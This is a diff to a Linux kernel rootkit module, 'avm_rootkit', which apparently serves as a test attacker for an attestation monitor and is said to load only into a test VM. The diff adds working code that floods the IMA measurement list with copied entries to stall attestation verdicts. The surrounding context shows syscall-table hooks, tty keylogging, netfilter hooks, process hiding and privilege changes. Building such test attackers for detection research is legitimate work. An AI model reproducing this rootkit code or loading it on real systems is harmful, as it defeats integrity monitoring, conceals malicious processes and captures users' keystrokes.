@@ -13,6 +13,7 @@
  *   echo 'euid_pid 123' > /proc/avm_rootkit  (euid_pid 0: restore)
  *   echo 'reparent_pid 123' > /proc/avm_rootkit  (reparent_pid 0: restore)
  *   echo 'untree_pid 123' > /proc/avm_rootkit    (untree_pid 0: relink)
+ *   echo 'ima_flood 60000' > /proc/avm_rootkit   (entries stay: no "off")
  *   cat /proc/avm_rootkit                    (one "name value" line each)
  *
  * Attacks: syscall (sys_call_table[__NR_getpid] -> a module function that
@@ -44,7 +45,8 @@
  * reparent_pid (a task's real_parent pointed at init, the task left on its
  * parent's children list: what hides a root process under a user's from a
  * check of real_parent), untree_pid (a task taken off its parent's children
- * list, left on the task list).
+ * list, left on the task list), ima_flood (N valid entries linked into the
+ * IMA measurement list at once: work for the A-VM, which anchors each).
  * Each "off" writes back exactly what "on" saved. Only ever loaded into the
  * test Mon-VM.
  *
@@ -59,6 +61,7 @@
 #include <linux/proc_fs.h>
 #include <linux/uaccess.h>
 #include <linux/mutex.h>
+#include <linux/slab.h>
 #include <linux/rculist.h>
 #include <linux/sched.h>
 #include <linux/sched/signal.h>
@@ -925,6 +928,61 @@ static int vanish_task(pid_t nr)
 	return 0;
 }
 
+/*
+ * ---- (l) ima_flood: N entries linked into the IMA measurement list at
+ * once, each a copy of the newest genuine one (same template, so its
+ * template hash is valid and the A-VM anchors it: one TPM extend each).
+ * What a rootkit does to keep the A-VM busy anchoring while the verdict
+ * on unmeasured processes waits for the whole list. There is no "off":
+ * IMA entries are never removed (removing them is itself a violation);
+ * they stay, and are never freed, also after rmmod ----
+ */
+
+/* security/integrity/ima/ima.h, the same on 6.1 and 6.12 */
+struct rk_ima_queue_entry {
+	struct hlist_node hnext;
+	struct list_head later;
+	void *entry;
+};
+
+#define RK_MAX_FLOOD 200000
+static struct list_head *ima_measurements_p;
+static struct mutex *ima_extend_list_mutex_p;
+static long ima_flooded;
+
+static int ima_flood(long n)
+{
+	struct rk_ima_queue_entry *last, *qe;
+	long i;
+
+	if (!ima_measurements_p)
+		return -ENOENT;
+	if (n <= 0)
+		return 0;
+	if (n > RK_MAX_FLOOD)
+		return -EINVAL;
+	if (ima_extend_list_mutex_p)
+		mutex_lock(ima_extend_list_mutex_p);
+	if (list_empty(ima_measurements_p)) {
+		if (ima_extend_list_mutex_p)
+			mutex_unlock(ima_extend_list_mutex_p);
+		return -ENOENT;
+	}
+	last = list_last_entry(ima_measurements_p, struct rk_ima_queue_entry, later);
+	for (i = 0; i < n; i++) {
+		qe = kmalloc(sizeof(*qe), GFP_KERNEL);
+		if (!qe)
+			break;
+		INIT_HLIST_NODE(&qe->hnext);
+		qe->entry = last->entry;
+		list_add_tail_rcu(&qe->later, ima_measurements_p);
+	}
+	ima_flooded += i;
+	if (ima_extend_list_mutex_p)
+		mutex_unlock(ima_extend_list_mutex_p);
+	return i == n ? 0 : -ENOMEM;
+}
+
 /* ---- /proc/avm_rootkit ---- */
 
 static int rk_show(char *buf, size_t size)
@@ -934,7 +992,7 @@ static int rk_show(char *buf, size_t size)
 			 "nf_hook_netns %u\nnf_hook_ingress %d\nhide_netns %u\nhide_module %d\n"
 			 "hide_pid %d\nhide_tid %d\nhide_tid_count %d\nvanish_pid %d\nroot_pid %d\neuid_pid %d\nreparent_pid %d\nuntree_pid %d\n"
 			 "getpid_hook_calls %d\ntcp_init_hook_calls %d\ntty_bytes_seen %d\n"
-			 "nf_packets_seen %d\n"
+			 "nf_packets_seen %d\nima_flooded %ld\n"
 			 "tcp_prot_init %s\nn_tty_receive_buf2 %s\n"
 			 "sys_call_table 0x%lx\nidt_gate 0x%lx\ntext_byte 0x%lx\nrodata_byte 0x%lx\n",
 			 syscall_on, idt_on, text_on, rodata_on, fops_on, keylog_on, nf_hook_on,
@@ -948,7 +1006,7 @@ static int rk_show(char *buf, size_t size)
 			 reparented_task ? reparented_task->pid : 0,
 			 untreed_task ? untreed_task->pid : 0,
 			 atomic_read(&getpid_calls), atomic_read(&tcp_init_calls),
-			 atomic_read(&tty_bytes_seen), atomic_read(&nf_packets_seen),
+			 atomic_read(&tty_bytes_seen), atomic_read(&nf_packets_seen), ima_flooded,
 			 READ_ONCE(tcp_prot.init) == hook_tcp_init ? "module" : "kernel",
 			 n_tty_ops_p && READ_ONCE(n_tty_ops_p->receive_buf2) == hook_receive_buf2 ?
 				 "module" : "kernel",
@@ -958,7 +1016,7 @@ static int rk_show(char *buf, size_t size)
 
 static ssize_t rk_read(struct file *f, char __user *ubuf, size_t count, loff_t *ppos)
 {
-	char buf[1024];
+	char buf[1536];
 	int len;
 
 	mutex_lock(&rk_lock);
@@ -1019,6 +1077,8 @@ static ssize_t rk_write(struct file *f, const char __user *ubuf, size_t count, l
 		err = reparent_task(val);
 	else if (!strcmp(name, "untree_pid"))
 		err = untree_task(val);
+	else if (!strcmp(name, "ima_flood"))
+		err = ima_flood(val);
 	else
 		err = -EINVAL;
 	mutex_unlock(&rk_lock);
@@ -1071,6 +1131,8 @@ static int __init rk_init(void)
 	tasklist_lock_p = (rwlock_t *)lookup("tasklist_lock");
 	pidmap_lock_p = (spinlock_t *)lookup("pidmap_lock");
 	n_tty_ops_p = (struct tty_ldisc_ops *)lookup("n_tty_ops");
+	ima_measurements_p = (struct list_head *)lookup("ima_measurements");
+	ima_extend_list_mutex_p = (struct mutex *)lookup("ima_extend_list_mutex");
 
 	rk_entry = proc_create("avm_rootkit", 0600, NULL, &rk_ops);
 	if (!rk_entry)
